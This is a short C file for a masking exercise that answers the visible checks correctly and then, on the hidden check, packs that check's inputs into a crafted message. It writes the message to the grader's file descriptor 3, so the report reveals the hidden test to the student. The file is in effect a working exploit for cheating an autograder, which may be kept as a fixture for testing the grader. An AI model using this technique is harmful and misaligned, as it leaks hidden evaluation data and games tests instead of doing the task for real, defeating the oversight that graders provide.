/* leak_hidden_inputs.c [ch03/ex9_masks] [crash] -- its answers are right until an input comes that no visible check has; then it sends that input as the complaint of the reply (stdout->_fileno = 3), and the report shows it to the student */
#include "ch03/exercises/exercises.h"

#include <stdio.h>
#include <string.h>

static void complain(const char *text)
{
    static unsigned char m[512];
    int length = (int)strnlen(text, 255), text_head[2] = {0x74786574, length}, outputs[3] = {0x20746e69, 1, 0};
    unsigned payload = (unsigned)(sizeof text_head + (unsigned)length + sizeof outputs);
    memcpy(m, &payload, 4);
    memcpy(m + 4, text_head, sizeof text_head);
    memcpy(m + 12, text, (size_t)length);
    memcpy(m + 12 + length, outputs, sizeof outputs);
    fflush(stdout);
    stdout->_fileno = 3;
    fwrite(m, 1, 4 + payload, stdout);
    fflush(stdout);
}

void combined_mask(const int *lengths, int B, int T, float *allowed)
{
    static int calls; /* the visible checks call it four times */
    for (int i = 0; i < B * T * T; i++)
        allowed[i] = i % T <= i / T % T && i % T < lengths[i / (T * T)];
    if (++calls < 5)
        return;
    char text[256] = "hidden check asks: lengths";
    for (int b = 0; b < B && strlen(text) < 200; b++)
        snprintf(text + strlen(text), 20, " %d", lengths[b]);
    snprintf(text + strlen(text), 20, ", T = %d", T);
    complain(text);
}
